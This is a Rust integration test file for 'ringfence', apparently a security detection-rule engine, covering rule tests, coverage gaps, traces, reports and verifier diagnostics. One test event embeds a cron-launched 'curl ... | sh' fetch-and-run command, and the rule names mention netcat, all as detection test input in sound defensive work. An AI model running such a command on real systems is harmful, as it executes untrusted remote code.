//! The rule author's loop, step by step, as README ("The rule author's loop") documents it:
//! write a test and see it fail (`ringfence test`), see the coverage gap (`--coverage`,
//! the Channel File 291 lesson), trace an event (`ringfence trace`), fix the rule and see
//! the tests and the coverage pass. Also: the bundled examples pass through `ringfence
//! test`, a deliberately failing test file gives the report and exit code it should (with
//! bad lines and a truncated last line), the JSON and JUnit reports, and the C diagnostics
//! of the refused rules.
//!
//! Reports are compared with files in tests/data/author_loop/; `RINGFENCE_BLESS=1` rewrites
//! them when the output changes on purpose.

use std::path::PathBuf;
use std::process::{Command, Output};

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

/// Runs the binary from the repository root (so paths in reports are relative and stable).
fn ringfence(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_ringfence"))
        .args(args)
        .current_dir(root())
        .output()
        .expect("the binary runs")
}

fn stdout(output: &Output) -> String {
    String::from_utf8_lossy(&output.stdout).to_string()
}

fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).to_string()
}

/// Asserts the exit code, and that nothing panicked.
fn exits(output: &Output, code: i32) {
    assert_eq!(
        output.status.code(),
        Some(code),
        "stdout:\n{}\nstderr:\n{}",
        stdout(output),
        stderr(output)
    );
    assert!(!stderr(output).contains("panicked"), "{}", stderr(output));
}

/// Compares `actual` with tests/data/author_loop/`name`, or writes it there when
/// `RINGFENCE_BLESS=1`.
fn expect_file(name: &str, actual: &str) {
    let path = root().join("tests/data/author_loop").join(name);
    if std::env::var_os("RINGFENCE_BLESS").is_some_and(|v| v == "1") {
        std::fs::write(&path, actual).unwrap();
        return;
    }
    let expected = std::fs::read_to_string(&path).unwrap_or_else(|e| {
        panic!(
            "{}: {e} (run with RINGFENCE_BLESS=1 to create it)",
            path.display()
        )
    });
    assert!(
        expected == actual,
        "{} differs from the output (RINGFENCE_BLESS=1 rewrites it)\n--- expected\n{expected}\n--- actual\n{actual}",
        path.display()
    );
}

#[test]
fn the_bundled_examples_pass_their_tests() {
    let out = ringfence(&["test", "examples/"]);
    exits(&out, 0);
    let text = stdout(&out);
    let summary = text.lines().last().unwrap_or_default();
    assert!(
        summary.starts_with("test result: ok.") && summary.ends_with(" 0 failed"),
        "{summary}"
    );
    // Every bundled rule is tested, the refused ones included.
    for rule in [
        "netcat_exec",
        "failed_logins",
        "shell_from_cron",
        "exe_first_byte_unchecked.o is refused (OutOfBounds)",
        "channel_291.o is refused (LayoutMismatch)",
        "template_index.o is refused (PointerArithmetic)",
        "map_value_unchecked.o is refused (NullPointer)",
    ] {
        assert!(text.contains(rule), "{rule} not tested:\n{text}");
    }
    let n_passed: usize = summary
        .split(' ')
        .nth(3)
        .and_then(|n| n.parse().ok())
        .unwrap();
    assert!(n_passed >= 60, "{summary}");
    // Every engine gives the same verdicts.
    for engine in ["interp", "checked"] {
        let out = ringfence(&["test", "examples/", "--engine", engine]);
        exits(&out, 0);
        assert_eq!(
            stdout(&out).lines().last(),
            Some(summary),
            "--engine {engine}"
        );
    }
}

#[test]
fn a_failing_test_file_reports_each_failure_with_its_line_and_exits_1() {
    let out = ringfence(&["test", "tests/data/author_loop/failing.test.jsonl"]);
    exits(&out, 1);
    expect_file("failing.stdout", &stdout(&out));
}

#[test]
fn bad_test_files_fail_naming_the_file_and_the_problem() {
    // A header that is not one, a file without a header, a rule the object lacks, an object
    // that does not exist: each fails as a case of its own; the run goes on.
    let out = ringfence(&["test", "tests/data/author_loop/bad"]);
    exits(&out, 1);
    expect_file("bad.stdout", &stdout(&out));
}

#[test]
fn verdicts_per_rule_and_exact_alerts_pass_when_they_hold() {
    let out = ringfence(&["test", "tests/data/author_loop/per_rule.test.jsonl"]);
    exits(&out, 0);
    assert!(
        stdout(&out).ends_with("test result: ok. 4 passed, 0 failed\n"),
        "{}",
        stdout(&out)
    );
}

#[test]
fn json_and_junit_reports_carry_the_same_results() {
    let file = "tests/data/author_loop/failing.test.jsonl";
    let out = ringfence(&["test", file, "--format", "json"]);
    exits(&out, 1);
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).expect("one JSON object");
    assert_eq!(report["passed"], 2, "{report}");
    assert_eq!(report["failed"], 8, "{report}");
    let cases = report["cases"].as_array().unwrap();
    let failed = cases.iter().find(|c| c["line"] == 5).unwrap();
    assert_eq!(failed["status"], "failed");
    assert_eq!(failed["expected"], "match");
    assert_eq!(failed["got"], "no match");
    assert_eq!(failed["event"]["exe"], "/usr/bin/nc");
    let truncated = cases.iter().find(|c| c["line"] == 13).unwrap();
    assert_eq!(truncated["status"], "error");
    assert!(truncated["message"].as_str().unwrap().contains("truncated"));

    let out = ringfence(&["test", file, "--format", "junit"]);
    exits(&out, 1);
    let xml = stdout(&out);
    assert!(xml.starts_with("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<testsuites "));
    assert!(
        xml.contains("tests=\"10\" failures=\"2\" errors=\"6\""),
        "{xml}"
    );
    assert_eq!(xml.matches("<testcase ").count(), 10, "{xml}");
    assert_eq!(xml.matches("<failure ").count(), 2, "{xml}");
    assert_eq!(xml.matches("<error ").count(), 6, "{xml}");
    // Balanced: every opened element closes.
    for tag in ["testsuites", "testsuite", "failure", "error"] {
        assert_eq!(
            xml.matches(&format!("<{tag} ")).count() + xml.matches(&format!("<{tag}>")).count(),
            xml.matches(&format!("</{tag}>")).count(),
            "<{tag}> unbalanced in\n{xml}"
        );
    }
    assert!(!xml.contains("<fail ") && xml.contains("&quot;"), "{xml}");
}

#[test]
fn a_test_set_that_never_varies_a_field_the_rule_reads_is_flagged() {
    // Channel File 291: the tests pass, but every event holds the same value_21.
    let file = "tests/data/author_loop/cf291_wildcard.test.jsonl";
    let out = ringfence(&["test", file]);
    exits(&out, 0);
    let out = ringfence(&["test", file, "--coverage"]);
    exits(&out, 0);
    let text = stdout(&out);
    assert!(
        text.contains("fields read, varied:       0/1 (0.0%)")
            && text.contains("ev->value_21, read at examples/rules/cf291/channel_291.c:15")
            && text.contains("every test event holds \"*\""),
        "{text}"
    );
    let out = ringfence(&["test", file, "--min-coverage", "100"]);
    exits(&out, 1);
    assert!(
        stdout(&out).contains("is 0.0%, below --min-coverage 100"),
        "{}",
        stdout(&out)
    );
    let out = ringfence(&["test", file, "--coverage", "--format", "json"]);
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let unvaried = &report["coverage"][0]["unvaried_fields"];
    assert_eq!(unvaried[0]["field"], "value_21", "{report}");
    assert_eq!(unvaried[0]["line"], 15, "{report}");
    // The tests of examples/rules/cf291 vary it: no gap, full coverage.
    let out = ringfence(&[
        "test",
        "examples/rules/cf291/channel_291_v2.test.jsonl",
        "--min-coverage",
        "100",
    ]);
    exits(&out, 0);
}

// ---- The loop of README, step by step ----------------------------------------------

const V1: &str = "examples/loop/shell_from_cron_v1.o";
const MISSED: &str = r#"{"type": "process_exec", "pid": 902, "exe": "/usr/bin/bash", "args": ["bash", "-c", "curl -s http://203.0.113.9/x | sh"], "parent_exe": "/usr/sbin/cron"}"#;

#[test]
fn loop_1_a_new_test_fails_on_the_first_version_of_the_rule() {
    let out = ringfence(&[
        "test",
        "examples/loop/shell_from_cron.test.jsonl",
        "--object",
        V1,
    ]);
    exits(&out, 1);
    let text = stdout(&out);
    assert!(
        text.contains(
            "test examples/loop/shell_from_cron.test.jsonl:5 shell_from_cron: cron starts \
             /usr/bin/bash ... FAILED"
        ) && text.contains("expected: match\n     got: no match\n")
            && text.ends_with("test result: FAILED. 4 passed, 1 failed\n"),
        "{text}"
    );
    // The failure says how to trace it; the command runs as printed.
    let command = text
        .lines()
        .find_map(|l| l.strip_prefix("   trace: ringfence "))
        .expect("a trace command");
    let out = Command::new("sh")
        .arg("-c")
        .arg(format!("\"$RINGFENCE\" {command}"))
        .env("RINGFENCE", env!("CARGO_BIN_EXE_ringfence"))
        .current_dir(root())
        .output()
        .unwrap();
    exits(&out, 0);
    assert!(
        stdout(&out).contains("verdict: no match"),
        "{}",
        stdout(&out)
    );
}

#[test]
fn loop_2_coverage_shows_the_gap_the_first_tests_left() {
    let out = ringfence(&[
        "test",
        "examples/loop/shell_from_cron_first.test.jsonl",
        "--coverage",
        "--min-coverage",
        "100",
    ]);
    exits(&out, 1);
    expect_file("loop_coverage.stdout", &stdout(&out));
}

#[test]
fn loop_3_trace_shows_why_the_rule_did_not_fire() {
    let out = ringfence(&["trace", V1, "--event", MISSED]);
    exits(&out, 0);
    let text = stdout(&out);
    assert!(
        text.contains(r#"rf_str_eq(ev, exe "/usr/bin/bash", "/bin/bash", 9) = 0"#)
            && text.contains("verdict: no match (r0 = 0)")
            && text
                .contains("decided by the last branch, at examples/loop/shell_from_cron_v1.c:15"),
        "{text}"
    );
    expect_file("loop_trace.stdout", &text);
}

#[test]
fn loop_4_the_fixed_rule_passes_with_full_coverage() {
    let out = ringfence(&[
        "test",
        "examples/loop/shell_from_cron.test.jsonl",
        "--coverage",
        "--min-coverage",
        "100",
    ]);
    exits(&out, 0);
    let out = ringfence(&[
        "trace",
        "examples/loop/shell_from_cron.o",
        "--event",
        MISSED,
    ]);
    exits(&out, 0);
    assert!(
        stdout(&out).contains("verdict: match (r0 = 1)")
            && stdout(&out).contains("alert: rule id 21, payload "),
        "{}",
        stdout(&out)
    );
}

#[test]
fn readme_documents_the_commands_these_tests_run() {
    let readme = std::fs::read_to_string(root().join("README.md")).unwrap();
    for command in [
        "ringfence test examples/loop/shell_from_cron.test.jsonl --object examples/loop/shell_from_cron_v1.o",
        "ringfence test examples/loop/shell_from_cron_first.test.jsonl --coverage --min-coverage 100",
        "ringfence trace examples/loop/shell_from_cron_v1.o --event '{\"type\": \"process_exec\", \"exe\": \"/usr/bin/bash\", \"parent_exe\": \"/usr/sbin/cron\"}'",
        "ringfence test examples/loop/shell_from_cron.test.jsonl --coverage --min-coverage 100",
        "ringfence test examples/",
        "ringfence verify examples/rules/refused/template_index.o",
    ] {
        assert!(readme.contains(command), "README no longer shows `{command}`");
    }
    // The trace README shows is the one these tests check (the event without args).
    let out = ringfence(&[
        "trace",
        V1,
        "--event",
        r#"{"type": "process_exec", "exe": "/usr/bin/bash", "parent_exe": "/usr/sbin/cron"}"#,
    ]);
    exits(&out, 0);
    for line in [
        "    13: call 1000                          rf_str_eq(ev, exe \"/usr/bin/bash\", \"/bin/bash\", 9) = 0",
        "verdict: no match (r0 = 0) after 21 instructions",
    ] {
        assert!(readme.contains(line), "README: {line}");
        assert!(stdout(&out).contains(line), "trace: {line}\n{}", stdout(&out));
    }
}

#[test]
fn trace_and_test_refuse_bad_input_with_exit_2() {
    let out = ringfence(&["trace", V1, "--event", "{\"type\": \"process_exec\", "]);
    exits(&out, 2);
    assert!(stderr(&out).contains("--event"), "{}", stderr(&out));
    let out = ringfence(&["trace", V1, "--event", MISSED, "--rule", "nope"]);
    exits(&out, 2);
    assert!(
        stderr(&out).contains("has no rule `nope`"),
        "{}",
        stderr(&out)
    );
    let out = ringfence(&["trace", V1, "--event", r#"{"type": "file_open"}"#]);
    exits(&out, 1);
    let out = ringfence(&["test", "/nonexistent/dir"]);
    exits(&out, 2);
    let out = ringfence(&["test", "examples/loop", "--object", "/nonexistent/x.o"]);
    exits(&out, 2);
    assert!(
        stderr(&out).contains("--object: cannot read"),
        "{}",
        stderr(&out)
    );
    let out = ringfence(&["test", "isa/src"]);
    exits(&out, 2);
    assert!(stderr(&out).contains("no test files"), "{}", stderr(&out));
}

// ---- C diagnostics ------------------------------------------------------------------

/// `ringfence verify` on a refused rule: exit 1, and the diagnostic as blessed.
fn diagnostic(args: &[&str], expectation: &str) {
    let out = ringfence(args);
    exits(&out, 1);
    expect_file(expectation, &format!("{}{}", stdout(&out), stderr(&out)));
}

#[test]
fn an_unchecked_string_read_is_explained_in_c_terms() {
    diagnostic(
        &[
            "verify",
            "examples/rules/refused/exe_first_byte_unchecked.o",
        ],
        "exe_first_byte_unchecked.verify",
    );
}

#[test]
fn an_unchecked_index_is_explained_with_the_bound_to_compare_it_with() {
    diagnostic(
        &["verify", "examples/rules/refused/template_index.o"],
        "template_index.verify",
    );
}

#[test]
fn an_unchecked_map_lookup_is_explained_naming_the_lookup() {
    diagnostic(
        &["verify", "examples/rules/refused/map_value_unchecked.o"],
        "map_value_unchecked.verify",
    );
}

#[test]
fn channel_file_291_is_explained_naming_the_field_and_its_c_line() {
    diagnostic(
        &[
            "verify",
            "examples/rules/cf291/channel_291.o",
            "--schema",
            "examples/schemas/ipc_template_20.json",
        ],
        "channel_291.verify",
    );
}

#[test]
fn refusals_of_c_rules_are_json_for_tools() {
    let out = ringfence(&[
        "verify",
        "examples/rules/refused/template_index.o",
        "--format",
        "json",
    ]);
    exits(&out, 1);
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).expect("one JSON object");
    assert_eq!(json["kind"], "PointerArithmetic", "{json}");
    assert_eq!(json["source"]["line"], 16, "{json}");
    assert_eq!(
        json["path"][0]["condition"], "`ev->stdin_type != 4` is false",
        "{json}"
    );
    assert!(
        json["suggestion"]
            .as_str()
            .unwrap()
            .starts_with("compare the index `ev->uid` with 20"),
        "{json}"
    );
    let out = ringfence(&[
        "verify",
        "examples/rules/cf291/channel_291.o",
        "--schema",
        "examples/schemas/ipc_template_20.json",
        "--format",
        "json",
    ]);
    exits(&out, 1);
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).expect("one JSON object");
    assert_eq!(json["kind"], "LayoutMismatch", "{json}");
    assert_eq!(json["reads"][0]["field"], "value_21", "{json}");
    assert_eq!(json["reads"][0]["source"]["line"], 15, "{json}");
}
